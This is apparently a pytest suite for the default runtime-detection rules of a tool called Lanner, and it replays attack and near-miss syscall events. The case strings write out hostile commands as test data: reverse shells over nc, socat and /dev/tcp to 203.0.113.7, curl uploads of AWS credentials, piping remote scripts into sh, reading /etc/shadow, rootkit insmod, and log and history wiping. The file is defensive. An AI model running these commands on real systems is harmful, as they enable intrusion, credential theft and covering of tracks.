"""Replay tests for Lanner's own default rules (lanner/rules/default/lanner_rules.yaml).

For each rule there are two hand-written event files under ``events/``:

* ``<slug>.trigger.jsonl`` — the event the attack produces (the exit event of the right syscall
  with its arguments, the process and its parent chain, the fd and the container where the rule
  needs them). Replayed with the default rules and ``rule_matching="all"``, it must raise an alert
  for the rule with the fields a responder looks for.
* ``<slug>.miss.jsonl`` — the closest legitimate event: one decisive detail differs, so exactly
  ONE top-level clause of the rule's condition is false and the rule stays silent. ``CASES`` says
  which clause and why.

A rule added to the file without both event files, a case in ``docs/default-rules.md``, a
description, an output, a priority and tags, or that selects an event type the live sensor cannot
capture, makes a test here fail.
"""

from __future__ import annotations

import functools
import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from lanner.rules import Ruleset, load
from lanner.rules.default import RULES_FILE
from lanner.sensor.syscalls import SYSCALLS
from tests.rules import near_miss
from tests.rules.near_miss import PRIORITY_LABELS, Case, false_clauses, replay

HERE = Path(__file__).resolve().parent
EVENTS_DIR = HERE / "events"
REPO = HERE.parents[1]
DOC = REPO / "docs" / "default-rules.md"
FALCO_RULES = REPO.parent / "shared" / "falco" / "rules" / "falco_rules.yaml"



CASES: tuple[Case, ...] = (
    Case(
        "Write below etc",
        "`tee -a /etc/passwd` in a `sudo -i` root shell appends a uid-0 account",
        "not proc.name in (lanner_etc_writer_binaries)",
        "not proc.name in (lanner_etc_writer_binaries): `useradd -m bob` opens the same /etc/passwd",
        ("file=/etc/passwd", "command=tee -a /etc/passwd", "user=root", "user_loginuid=1000",
         "container_id=host"),
        {"fd.name": "/etc/passwd", "proc.cmdline": "tee -a /etc/passwd", "user.name": "root", "user.uid": 0},
    ),
    Case(
        "Write below binary or library directory",
        "`cp /tmp/.x/libkeyutils.so.1 /lib/x86_64-linux-gnu/` from a root shell (Ebury-style backdoor)",
        "not lanner_run_by_package_mgmt",
        "not lanner_run_by_package_mgmt: the same cp run by a postinst script under dpkg <- apt-get",
        ("file=/lib/x86_64-linux-gnu/libkeyutils.so.1", "command=cp /tmp/.x/libkeyutils.so.1",
         "flags=O_TRUNC|O_WRONLY"),
        {"fd.name": "/lib/x86_64-linux-gnu/libkeyutils.so.1", "proc.pname": "bash"},
    ),
    Case(
        "SSH authorized keys modified",
        "`bash -c 'echo ssh-ed25519 ... >> /root/.ssh/authorized_keys'` in a root shell",
        "not proc.name in (lanner_ssh_key_manager_binaries)",
        "not proc.name in (lanner_ssh_key_manager_binaries): cloud-init writes the same file at boot",
        ("file=/root/.ssh/authorized_keys", "flags=O_APPEND|O_CREAT|O_WRONLY", "command=bash -c echo ssh-ed25519",
         "user=root"),
        {"fd.name": "/root/.ssh/authorized_keys", "proc.name": "bash"},
    ),
    Case(
        "Read sensitive file by untrusted program",
        "`cat /etc/shadow` in a `sudo -i` root shell",
        "not proc.name in (lanner_sensitive_file_reader_binaries)",
        "not proc.name in (lanner_sensitive_file_reader_binaries): `passwd -S alice` reads /etc/shadow",
        ("file=/etc/shadow", "command=cat /etc/shadow", "parent=bash", "gparent=sudo", "user_loginuid=1000"),
        {"fd.name": "/etc/shadow", "proc.cmdline": "cat /etc/shadow", "proc.aname[2]": "sudo"},
    ),
    Case(
        "Read Kubernetes service account token with shell tool",
        "`cat /var/run/secrets/kubernetes.io/serviceaccount/token` in the orders-api pod after an RCE",
        "proc.name in (lanner_file_exfil_binaries)",
        "proc.name in (lanner_file_exfil_binaries): the application (python3) reads its own token",
        ("file=/var/run/secrets/kubernetes.io/serviceaccount/token", "command=cat /var/run/secrets",
         "container_name=orders-api", "k8s_pod_name=orders-api-5b7f9c6d8-kq2xv", "k8s_ns_name=shop"),
        {"fd.name": "/var/run/secrets/kubernetes.io/serviceaccount/token", "container.id": "de871ded02c7",
         "k8s.ns.name": "shop"},
    ),
    Case(
        "Read cloud credentials with shell tool",
        "`curl -F f=@/home/alice/.aws/credentials https://203.0.113.7/u` uploads the AWS keys",
        "proc.name in (lanner_file_exfil_binaries)",
        "proc.name in (lanner_file_exfil_binaries): `aws s3 ls` reads the same credentials",
        ("file=/home/alice/.aws/credentials", "command=curl -s -F f=@/home/alice/.aws/credentials", "user=alice"),
        {"fd.name": "/home/alice/.aws/credentials", "user.uid": 1000},
    ),
    Case(
        "Fileless execution from memfd",
        "a python dropper (curl | python3 from cron) re-executes a payload from memfd 5",
        "not proc.exepath in (lanner_known_memfd_exepaths)",
        "not proc.exepath in (lanner_known_memfd_exepaths): runc's own memfd clone",
        ("proc_exepath=memfd:kworker", "exe_flags=EXE_WRITABLE|EXE_FROM_MEMFD", "parent=sh", "gparent=cron"),
        {"proc.exepath": "memfd:kworker", "proc.aname[2]": "cron"},
    ),
    Case(
        "Drifted binary executed in container",
        "xmrig downloaded to /tmp (overlay upper layer) and executed in the orders-api container",
        "proc.is_exe_upper_layer=true",
        "proc.is_exe_upper_layer=true: the same program shipped in the image (lower layer)",
        ("proc_exepath=/tmp/xmrig", "EXE_UPPER_LAYER",
         "container_image_repository=registry.example.com/shop/orders-api", "container_image_tag=2.4.1"),
        {"proc.exepath": "/tmp/xmrig", "container.image.tag": "2.4.1", "proc.exe_ino.ctime": 1735726867000000000},
    ),
    Case(
        "Reverse shell tool executed",
        "`nc -e /bin/sh 203.0.113.7 4444` in the orders-api container",
        "lanner_reverse_shell_command",
        "lanner_reverse_shell_command: the same nc to the same host without -e (`nc -w 3 ...`)",
        ("command=nc -e /bin/sh 203.0.113.7 4444", "proc_exepath=/usr/bin/nc.traditional", "container_name=orders-api"),
        {"proc.cmdline": "nc -e /bin/sh 203.0.113.7 4444", "container.name": "orders-api"},
    ),
    Case(
        "Shell spawned by server process",
        "a web shell in php-fpm (www-data) runs `sh -c 'curl -s http://203.0.113.7/x | sh'`",
        "not lanner_known_server_shell_commands",
        "not lanner_known_server_shell_commands: PHP mail() runs `sh -c /usr/sbin/sendmail -t -i`",
        ("command=sh -c curl -s http://203.0.113.7/x | sh", "parent=php-fpm8.2", "user=www-data",
         "parent_exepath=/usr/sbin/php-fpm8.2"),
        {"proc.pname": "php-fpm8.2", "user.uid": 33},
    ),
    Case(
        "Interactive shell in container",
        "`kubectl exec -it ... -- bash`: bash with a terminal, parent containerd-shim",
        "proc.tty != 0",
        "proc.tty != 0: the same bash started without a terminal (an exec probe)",
        ("command=bash", "terminal=34816", "parent=containerd-shim", "container_id=de871ded02c7"),
        {"proc.tty": 34816, "container.image": "registry.example.com/shop/orders-api:2.4.1"},
    ),
    Case(
        "Sudo or su executed in container",
        "`sudo -n /bin/sh -c ...` run by the application's shell in the orders-api container",
        "not lanner_container_entrypoint_user_switch",
        "not lanner_container_entrypoint_user_switch: the same sudo run by the entrypoint script (pid 1)",
        ("command=sudo -n /bin/sh -c id; cat /root/.bash_history", "parent=sh", "gparent=python3",
         "container_name=orders-api"),
        {"proc.name": "sudo", "proc.aname[2]": "python3"},
    ),
    Case(
        "Package manager executed in container",
        "`apt-get install -y nmap netcat-openbsd` in the orders-api container",
        "not container.image.repository in (lanner_package_manager_images)",
        "not container.image.repository in (...): the same apt-get in a kaniko image build",
        ("command=apt-get install -y nmap netcat-openbsd",
         "container_image=registry.example.com/shop/orders-api:2.4.1"),
        {"proc.cmdline": "apt-get install -y nmap netcat-openbsd", "user.uid": 0},
    ),
    Case(
        "Suspicious network tool executed",
        "`nmap -sT -p 1-1024 10.244.0.0/16` scans the pod network from the orders-api container",
        "not lanner_netcat_port_check",
        "not lanner_netcat_port_check: `nc -z -w 2 postgres 5432`, a readiness check of one port",
        ("command=nmap -sT -p 1-1024 10.244.0.0/16", "proc_exepath=/usr/bin/nmap", "k8s_ns_name=shop"),
        {"proc.name": "nmap"},
    ),
    Case(
        "Executable run from temporary directory",
        "cron job `curl | python3` drops /var/tmp/.systemd/kinsing and runs it",
        "not proc.exepath pmatch (lanner_temp_exec_allowed_paths)",
        "not proc.exepath pmatch (lanner_temp_exec_allowed_paths): `go run` executes its build in /tmp/go-build*",
        ("proc_exepath=/var/tmp/.systemd/kinsing", "parent=sh", "gparent=cron", "user=root"),
        {"proc.exepath": "/var/tmp/.systemd/kinsing", "proc.cwd": "/var/tmp/.systemd/"},
    ),
    Case(
        "Setuid to root by non-root process",
        "alice's `python3 -c 'import os; os.setuid(0); ...'` (python3 with cap_setuid) in her ssh session",
        "lanner_unprivileged_setuid_origin",
        "lanner_unprivileged_setuid_origin: the same setuid(0) by a root service started by systemd",
        ("res=SUCCESS", "evt_type=setuid", "uid=0(root)", "user_loginuid=1000",
         "command=python3 -c import os; os.setuid(0); os.system('/bin/bash')"),
        {"user.loginuid": 1000, "evt.res": "SUCCESS", "proc.pname": "bash"},
    ),
    Case(
        "Kernel module loaded from container",
        "`insmod /tmp/.k/diamorphine.ko` in a privileged debug pod (finit_module succeeds)",
        "not container.image.repository in (lanner_module_loading_images)",
        "not container.image.repository in (lanner_module_loading_images): the same load by kube-proxy",
        ("module_file=/tmp/.k/diamorphine.ko", "res=SUCCESS", "CAP_SYS_MODULE", "command=insmod /tmp/.k/diamorphine.ko",
         "k8s_pod_name=node-debugger-7xk2p"),
        {"fd.name": "/tmp/.k/diamorphine.ko", "evt.res": "SUCCESS"},
    ),
    Case(
        "Kernel module loaded on host",
        "`insmod /tmp/.k/diamorphine.ko` from a `sudo -i` root shell",
        "not lanner_module_load_by_system",
        "not lanner_module_load_by_system: the same module load by a modprobe/insmod that dockerd runs",
        ("module_file=/tmp/.k/diamorphine.ko", "command=insmod /tmp/.k/diamorphine.ko", "parent=bash", "gparent=sudo"),
        {"fd.name": "/tmp/.k/diamorphine.ko", "proc.exepath": "/usr/bin/kmod"},
    ),
    Case(
        "Ptrace attach to process",
        "python3 injector: ptrace(PTRACE_ATTACH, 1187 /* sshd */)",
        "not proc.name in (lanner_ptrace_binaries)",
        "not proc.name in (lanner_ptrace_binaries): criu attaching to the same pid for a checkpoint",
        ("request=PTRACE_ATTACH", "target=sshd", "target_pid=1187", "command=python3 /tmp/.x/inject.py 1187"),
        {"evt.arg.request": "PTRACE_ATTACH", "evt.arg.pid": "sshd", "proc.cmdline": "python3 /tmp/.x/inject.py 1187"},
    ),
    Case(
        "Log file truncated",
        "`: > /var/log/auth.log` in a root shell (O_WRONLY|O_CREAT|O_TRUNC)",
        "(lanner_open_truncate or",
        "lanner_open_truncate: the same shell appends to the log (`>>`, O_APPEND instead of O_TRUNC)",
        ("file=/var/log/auth.log", "flags=O_TRUNC|O_CREAT|O_WRONLY", "command=bash", "user=root"),
        {"fd.name": "/var/log/auth.log", "proc.name": "bash"},
    ),
    Case(
        "Log file deleted",
        "`find /var/log -type f -delete` from a root shell: unlinkat(<d>/var/log, auth.log)",
        "not lanner_scheduled_log_cleanup",
        "not lanner_scheduled_log_cleanup: the same find -delete run by a cron job",
        ("name=/var/log/auth.log", "command=find /var/log -type f -delete", "evt_type=unlinkat"),
        {"evt.arg.name": "/var/log/auth.log", "proc.name": "find"},
    ),
    Case(
        "Shell history cleared",
        "`ln -sf /dev/null /root/.bash_history` (symlinkat, AT_FDCWD)",
        "lanner_history_cleared",
        "lanner_history_cleared: bash itself rewrites /root/.bash_history (O_TRUNC) when it exits",
        ("target=/dev/null", "linkpath=/root/.bash_history", "command=ln -sf /dev/null /root/.bash_history"),
        {"evt.type": "symlinkat", "proc.name": "ln"},
    ),
    Case(
        "Container contacting Kubernetes API server",
        "curl in the orders-api pod connects to the kubernetes service 10.96.0.1:443",
        "lanner_k8s_api_server",
        "lanner_k8s_api_server: the same curl connects to another ClusterIP service (10.96.143.7:443)",
        ("connection=10.244.1.23:48712->10.96.0.1:443", "server_ip=10.96.0.1", "command=curl -sk", "k8s_ns_name=shop"),
        {"fd.name": "10.244.1.23:48712->10.96.0.1:443", "fd.sip": "10.96.0.1", "fd.sport": 443},
    ),
    Case(
        "Outbound connection to unexpected port",
        "xmrig in the orders-api container connects to a mining pool 198.51.100.23:3333 (EINPROGRESS)",
        "not fd.sport in (lanner_allowed_outbound_ports)",
        "not fd.sport in (lanner_allowed_outbound_ports): the same connection to port 443",
        ("connection=10.244.1.23:51022->198.51.100.23:3333", "server_port=3333", "proto=tcp",
         "proc_exepath=/tmp/xmrig"),
        {"fd.sip": "198.51.100.23", "fd.sport": 3333, "fd.l4proto": "tcp"},
    ),
    Case(
        "Standard streams redirected to network socket",
        "`bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`: dup2(tcp socket, 0)",
        "fd.type in (ipv4, ipv6)",
        "fd.type in (ipv4, ipv6): the same dup2 onto stdin of a regular file (`< /tmp/input.txt`)",
        ("connection=10.244.1.23:39712->203.0.113.7:4444", "fd_num=0", "proto=tcp",
         "command=bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
        {"fd.name": "10.244.1.23:39712->203.0.113.7:4444", "evt.rawres": 0},
    ),
)

CASES_BY_RULE = {c.rule: c for c in CASES}


def slug(rule: str) -> str:
    """The file-name stem for a rule: lower case, runs of other characters become '-'."""
    return re.sub(r"[^a-z0-9]+", "-", rule.lower()).strip("-")


@functools.cache
def items() -> tuple[dict[str, Any], ...]:
    docs = yaml.safe_load(RULES_FILE.read_text(encoding="utf-8"))
    assert isinstance(docs, list)
    return tuple(docs)


def rule_items() -> list[dict[str, Any]]:
    return [item for item in items() if "rule" in item]


@functools.cache
def clause_ruleset() -> tuple[Ruleset, dict[str, list[str]]]:
    """The default rules plus one DEBUG rule per top-level clause of every rule's condition."""
    return near_miss.clause_ruleset(RULES_FILE, rule_items())


@pytest.fixture(scope="module")
def ruleset() -> Ruleset:
    return load([RULES_FILE])


def _params() -> list[Any]:
    return [pytest.param(case, id=slug(case.rule)) for case in CASES]


# --- the file ----------------------------------------------------------------------------------


def test_rules_file_validates_without_errors_or_warnings(ruleset: Ruleset) -> None:
    assert ruleset.errors == []
    assert ruleset.warnings == []
    assert [r.name for r in ruleset.rules.values()] == [str(item["rule"]) for item in rule_items()]
    assert all(r.enabled for r in ruleset.rules.values())


def test_validate_command_is_clean() -> None:
    from lanner.cli import cli

    result = CliRunner().invoke(cli, ["rules", "validate", "-r", str(RULES_FILE), "--json"])
    assert result.exit_code == 0, result.output
    report = json.loads(result.output)
    assert report == {"ok": True, "errors": [], "warnings": []}


def test_every_rule_is_complete() -> None:
    rules = rule_items()
    assert len(rules) >= 20
    for item in rules:
        name = item["rule"]
        for key in ("desc", "condition", "output", "priority", "tags"):
            assert item.get(key), f"{name}: no {key}"
        assert str(item["priority"]).lower() in PRIORITY_LABELS, name
        tags = [str(t) for t in item["tags"]]
        assert {"host", "container"} & set(tags), f"{name}: tags say neither host nor container"
        assert any(t.startswith("mitre_") for t in tags), f"{name}: no MITRE tactic tag"
        assert any(re.fullmatch(r"T\d{4}(\.\d{3})?", t) for t in tags), f"{name}: no MITRE technique tag"
        output = " ".join(str(item["output"]).split())
        for text in ("%user.name", "%proc.cmdline", "%proc.pname"):
            assert text in output, f"{name}: output lacks {text}"


def test_outputs_show_the_object_of_the_rule() -> None:
    """File rules show the file, network rules the connection (container fields are appended by the engine)."""
    for item in rule_items():
        cond, output = str(item["condition"]), str(item["output"])
        if "lanner_open_" in cond:
            assert "%fd.name" in output, item["rule"]
        if "connect" in cond or "dup" in cond:
            assert "connection=%fd.name" in output, item["rule"]


def test_lists_and_macros_do_not_collide_with_falco() -> None:
    """Every list and macro is lanner_-prefixed, so Falco's files keep their meaning next to ours."""
    for item in items():
        for kind in ("list", "macro"):
            if kind in item:
                assert str(item[kind]).startswith("lanner_"), f"{kind} {item[kind]} is not lanner_-prefixed"


@pytest.mark.skipif(not FALCO_RULES.is_file(), reason="Falco reference rules not found")
def test_loads_next_to_falco_rules() -> None:
    alone, both = load([FALCO_RULES]), load([FALCO_RULES, RULES_FILE])
    assert both.errors == [] and both.warnings == []
    assert set(alone.rules) < set(both.rules)
    for name, rule in alone.rules.items():
        assert both.rules[name].condition == rule.condition, f"{name} changed by loading the default rules"


def test_every_event_type_is_captured_by_the_sensor(ruleset: Ruleset) -> None:
    captured = {s.event for s in SYSCALLS}
    for rule in ruleset.rules.values():
        assert rule.evttypes is not None, f"{rule.name} selects every event type"
        missing = set(rule.evttypes) - captured
        assert not missing, f"{rule.name} uses event types the sensor cannot capture: {sorted(missing)}"


def test_every_rule_has_event_files_and_a_case() -> None:
    names = [str(item["rule"]) for item in rule_items()]
    assert sorted(names) == sorted(CASES_BY_RULE), "CASES must list exactly the rules of the file"
    expected = {f"{slug(n)}.{k}.jsonl" for n in names for k in ("trigger", "miss")}
    present = {p.name for p in EVENTS_DIR.glob("*.jsonl")}
    assert expected - present == set(), f"rules without event files: {sorted(expected - present)}"
    assert present - expected == set(), f"event files that belong to no rule: {sorted(present - expected)}"


def test_every_rule_is_documented() -> None:
    doc = DOC.read_text(encoding="utf-8")
    headings = set(re.findall(r"^### (.+)$", doc, flags=re.MULTILINE))
    missing = [str(item["rule"]) for item in rule_items() if str(item["rule"]) not in headings]
    assert not missing, f"rules without a section in {DOC.name}: {missing}"


def test_documented_override_example_loads() -> None:
    doc = DOC.read_text(encoding="utf-8")
    blocks = re.findall(r"```yaml\n(.*?)```", doc, flags=re.DOTALL)
    assert blocks, "docs/default-rules.md has no yaml example"
    for block in blocks:
        rs = load([RULES_FILE, block])
        assert rs.errors == [] and rs.warnings == [], block


# --- the events --------------------------------------------------------------------------------


@pytest.mark.parametrize("case", _params())
def test_trigger_alerts(ruleset: Ruleset, case: Case) -> None:
    path = EVENTS_DIR / f"{slug(case.rule)}.trigger.jsonl"
    alerts = [a for a in replay(ruleset, path) if a.rule == case.rule]
    assert alerts, f"{path.name}: no alert for {case.rule!r} ({case.trigger})"
    alert = alerts[0]
    written = str(next(i["priority"] for i in rule_items() if i["rule"] == case.rule)).lower()
    assert alert.priority == PRIORITY_LABELS[written]
    for text in case.output:
        assert text in alert.output, f"{text!r} not in alert output: {alert.output}"
    for name, value in case.fields.items():
        assert name in alert.output_fields, f"{name} not in output_fields"
        assert alert.output_fields[name] == value, f"output_fields[{name!r}]"
    for name in ("user.name", "proc.cmdline", "proc.pname", "container.id", "k8s.pod.name"):
        assert name in alert.output_fields, f"{name} not in output_fields"


@pytest.mark.parametrize("case", _params())
def test_trigger_raises_its_rule_first(ruleset: Ruleset, case: Case) -> None:
    """With Falco's default rule_matching=first the rule itself (not a broader one) reports the attack."""
    path = EVENTS_DIR / f"{slug(case.rule)}.trigger.jsonl"
    alerts = list(replay(ruleset, path, rule_matching="first"))
    assert [a.rule for a in alerts][:1] == [case.rule]


@pytest.mark.parametrize("case", _params())
def test_near_miss_is_silent(ruleset: Ruleset, case: Case) -> None:
    path = EVENTS_DIR / f"{slug(case.rule)}.miss.jsonl"
    alerts = [a for a in replay(ruleset, path) if a.rule == case.rule]
    assert not alerts, f"{path.name}: unexpected alert ({case.miss}): {alerts[0].output}"


@pytest.mark.parametrize("case", _params())
def test_near_miss_differs_in_exactly_one_clause(case: Case) -> None:
    """Every top-level clause holds for the trigger; exactly the named one fails for the near miss."""
    ruleset, clauses = clause_ruleset()
    assert ruleset.errors == []
    rule_clauses = clauses[case.rule]
    stem = EVENTS_DIR / slug(case.rule)
    assert false_clauses(ruleset, rule_clauses, case.rule, stem.with_suffix(".trigger.jsonl")) == []
    failed = false_clauses(ruleset, rule_clauses, case.rule, stem.with_suffix(".miss.jsonl"))
    assert len(failed) == 1 and failed[0].startswith(case.clause), (
        f"near miss should fail only the clause {case.clause!r}; it fails {failed}")


# --- tuning ------------------------------------------------------------------------------------


def _rules_fired(rules: list[Path | str], path: Path) -> set[str]:
    rs = load(rules)
    assert rs.errors == [] and rs.warnings == []
    return {a.rule for a in replay(rs, path)}


def test_appending_to_a_list_silences_a_rule() -> None:
    path = EVENTS_DIR / "write-below-etc.trigger.jsonl"
    override = """
- list: lanner_etc_writer_binaries
  items: [tee]
  override:
    items: append
"""
    assert "Write below etc" in _rules_fired([RULES_FILE], path)
    assert "Write below etc" not in _rules_fired([RULES_FILE, override], path)


def test_replacing_a_user_known_macro_silences_a_rule() -> None:
    path = EVENTS_DIR / "read-cloud-credentials-with-shell-tool.trigger.jsonl"
    override = """
- macro: lanner_user_known_read_cloud_credentials_activities
  condition: (proc.name = curl and user.name = alice)
"""
    assert "Read cloud credentials with shell tool" not in _rules_fired([RULES_FILE, override], path)


def test_kubernetes_api_server_address_is_configurable(tmp_path: Path) -> None:
    """A cluster whose kubernetes service is 10.43.0.1 (k3s) appends it to lanner_k8s_api_server_ips."""
    trigger = (EVENTS_DIR / "container-contacting-kubernetes-api-server.trigger.jsonl").read_text()
    k3s = tmp_path / "k3s.jsonl"
    k3s.write_text(trigger.replace("10.96.0.1", "10.43.0.1"))
    rule = "Container contacting Kubernetes API server"
    assert rule not in _rules_fired([RULES_FILE], k3s)
    override = """
- list: lanner_k8s_api_server_ips
  items: [10.43.0.1]
  override:
    items: append
"""
    assert rule in _rules_fired([RULES_FILE, override], k3s)


def test_allowed_outbound_ports_are_configurable() -> None:
    path = EVENTS_DIR / "outbound-connection-to-unexpected-port.trigger.jsonl"
    override = """
- list: lanner_allowed_outbound_ports
  items: [3333]
  override:
    items: append
"""
    assert "Outbound connection to unexpected port" not in _rules_fired([RULES_FILE, override], path)


# --- variants: the details the documentation promises ------------------------------------------


def _variant(name: str, change: dict[str, Any]) -> dict[str, Any]:
    """The trigger event of ``name`` with ``change`` applied: dotted keys into nested objects."""
    event: dict[str, Any] = json.loads((EVENTS_DIR / f"{name}.trigger.jsonl").read_text().splitlines()[0])
    for dotted, value in change.items():
        *path, last = dotted.split(".")
        obj = event
        for key in path:
            obj = obj[key]
        if value is None:
            obj.pop(last, None)
        else:
            obj[last] = value
    return event


VARIANTS: tuple[tuple[str, str, dict[str, Any], bool], ...] = (
    # (trigger file, rule, change, fires)
    ("read-sensitive-file-by-untrusted-program", "Read sensitive file by untrusted program",
     {"fd.name": "/etc/ssh/ssh_host_ed25519_key", "args.name": "/etc/ssh/ssh_host_ed25519_key"}, True),
    ("read-sensitive-file-by-untrusted-program", "Read sensitive file by untrusted program",
     {"fd.name": "/etc/ssh/ssh_host_ed25519_key.pub", "args.name": "/etc/ssh/ssh_host_ed25519_key.pub"}, False),
    ("read-sensitive-file-by-untrusted-program", "Read sensitive file by untrusted program",
     {"fd.name": "/home/alice/.ssh/id_ed25519", "args.name": "/home/alice/.ssh/id_ed25519"}, True),
    ("read-sensitive-file-by-untrusted-program", "Read sensitive file by untrusted program",
     {"fd.name": "/home/alice/.ssh/id_ed25519.pub", "args.name": "/home/alice/.ssh/id_ed25519.pub"}, False),
    ("package-manager-executed-in-container", "Package manager executed in container",
     {"proc.name": "pip3", "proc.args": ["--no-cache-dir", "install", "pycryptodome"]}, True),
    ("package-manager-executed-in-container", "Package manager executed in container",
     {"proc.name": "npm", "proc.args": ["ci"]}, True),
    ("package-manager-executed-in-container", "Package manager executed in container",
     {"proc.name": "npm", "proc.args": ["start"]}, False),
    ("package-manager-executed-in-container", "Package manager executed in container",
     {"proc.name": "rpm", "proc.args": ["-qa"]}, False),
    ("suspicious-network-tool-executed", "Suspicious network tool executed",
     {"proc.name": "nc", "proc.args": ["-zv", "postgres", "5432"]}, False),
    ("suspicious-network-tool-executed", "Suspicious network tool executed",
     {"proc.name": "nc", "proc.args": ["-w", "2", "-z", "postgres", "5432"]}, False),
    ("suspicious-network-tool-executed", "Suspicious network tool executed",
     {"proc.name": "nc", "proc.args": ["-z", "-v", "10.244.0.12", "1-1024"]}, True),
    ("suspicious-network-tool-executed", "Suspicious network tool executed",
     {"proc.name": "socat", "proc.args": ["TCP-LISTEN:8443,fork", "TCP:10.0.0.5:443"]}, True),
    ("reverse-shell-tool-executed", "Reverse shell tool executed",
     {"proc.args": ["-nve", "/bin/bash", "203.0.113.7", "443"]}, True),
    ("reverse-shell-tool-executed", "Reverse shell tool executed",
     {"proc.name": "ncat", "proc.args": ["--sh-exec", "bash -i", "203.0.113.7", "443"]}, True),
    ("reverse-shell-tool-executed", "Reverse shell tool executed",
     {"proc.name": "socat", "proc.args": ["TCP:203.0.113.7:443", "EXEC:/bin/bash,pty,stderr"]}, True),
    ("reverse-shell-tool-executed", "Reverse shell tool executed",
     {"proc.args": ["web-east", "80"]}, False),
    ("setuid-to-root-by-non-root-process", "Setuid to root by non-root process",
     {"type": "setresuid", "args": {"res": 0, "ruid": 4294967295, "euid": 0, "suid": 4294967295}}, True),
    ("setuid-to-root-by-non-root-process", "Setuid to root by non-root process",
     {"type": "setresuid", "args": {"res": 0, "ruid": 1000, "euid": 1000, "suid": 1000}}, False),
    ("setuid-to-root-by-non-root-process", "Setuid to root by non-root process",
     {"res": -1, "args": {"res": -1, "uid": 0}, "proc.uid": 1000, "proc.user_name": "alice",
      "proc.loginuid": -1}, True),
    ("setuid-to-root-by-non-root-process", "Setuid to root by non-root process",
     {"proc.name": "sshd", "proc.args": ["-D", "-R"]}, False),
    ("shell-history-cleared", "Shell history cleared",
     {"type": "unlinkat", "args": {"res": 0, "dirfd": -100, "name": "/home/alice/.zsh_history", "flags": 0},
      "proc.name": "rm", "proc.args": ["-f", "/home/alice/.zsh_history"]}, True),
    ("shell-history-cleared", "Shell history cleared",
     {"args.linkpath": "/root/.mysql_history"}, False),
    ("log-file-deleted", "Log file deleted",
     {"type": "unlink", "args": {"res": 0, "path": "/var/log/wtmp"}, "fd": None, "proc.name": "rm"}, True),
    ("log-file-deleted", "Log file deleted",
     {"proc.name": "java", "args.name": "app-2024-12-01.log.gz", "fd.name": "/var/log/shop"}, False),
    ("log-file-truncated", "Log file truncated",
     {"proc.name": "Xorg"}, False),
    ("write-below-etc", "Write below etc",
     {"args.flags": 0, "args.mode": 0}, False),
    ("write-below-binary-or-library-directory", "Write below binary or library directory",
     {"proc.name": "python3", "fd.name": "/usr/lib/python3/dist-packages/yaml/__pycache__/a.cpython-312.pyc",
      "args.name": "/usr/lib/python3/dist-packages/yaml/__pycache__/a.cpython-312.pyc"}, False),
    ("executable-run-from-temporary-directory", "Executable run from temporary directory",
     {"proc.exepath": "/usr/bin/bash", "proc.name": "bash", "proc.args": ["/dev/shm/.x/run.sh"]}, True),
    ("executable-run-from-temporary-directory", "Executable run from temporary directory",
     {"proc.exepath": "/usr/bin/bash", "proc.name": "bash", "proc.args": ["/tmp/install.sh"]}, False),
    ("outbound-connection-to-unexpected-port", "Outbound connection to unexpected port",
     {"type": "sendto", "res": 48,
      "args": {"res": 48, "fd": 5, "size": 48, "tuple": "10.244.1.23:40123->198.51.100.9:5555"},
      "fd": {"num": 5, "type": "ipv4", "name": "10.244.1.23:40123->198.51.100.9:5555", "l4proto": "udp",
             "role": "client", "cip": "10.244.1.23", "cport": 40123, "sip": "198.51.100.9", "sport": 5555,
             "connected": False, "name_changed": True}}, True),
    ("outbound-connection-to-unexpected-port", "Outbound connection to unexpected port",
     {"fd.sip": "10.20.30.40", "fd.name": "10.244.1.23:51022->10.20.30.40:3333"}, False),
    ("container-contacting-kubernetes-api-server", "Container contacting Kubernetes API server",
     {"fd.sport": 6443, "fd.name": "10.244.1.23:48712->10.96.0.1:6443"}, True),
    ("container-contacting-kubernetes-api-server", "Container contacting Kubernetes API server",
     {"container.pod_namespace": "kube-system",
      "container.labels": {"io.kubernetes.pod.name": "coredns-7db6d8ff4d-x2x9k",
                           "io.kubernetes.pod.namespace": "kube-system", "io.kubernetes.container.name": "coredns"}},
     False),
)


@pytest.mark.parametrize(("name", "rule", "change", "fires"), VARIANTS,
                         ids=[f"{v[0]}-{i}" for i, v in enumerate(VARIANTS)])
def test_variant(ruleset: Ruleset, tmp_path: Path, name: str, rule: str, change: dict[str, Any],
                 fires: bool) -> None:
    path = tmp_path / "variant.jsonl"
    path.write_text(json.dumps(_variant(name, change)) + "\n")
    fired = rule in {a.rule for a in replay(ruleset, path)}
    assert fired is fires, f"{rule}: expected {'an alert' if fires else 'silence'} for {change}"
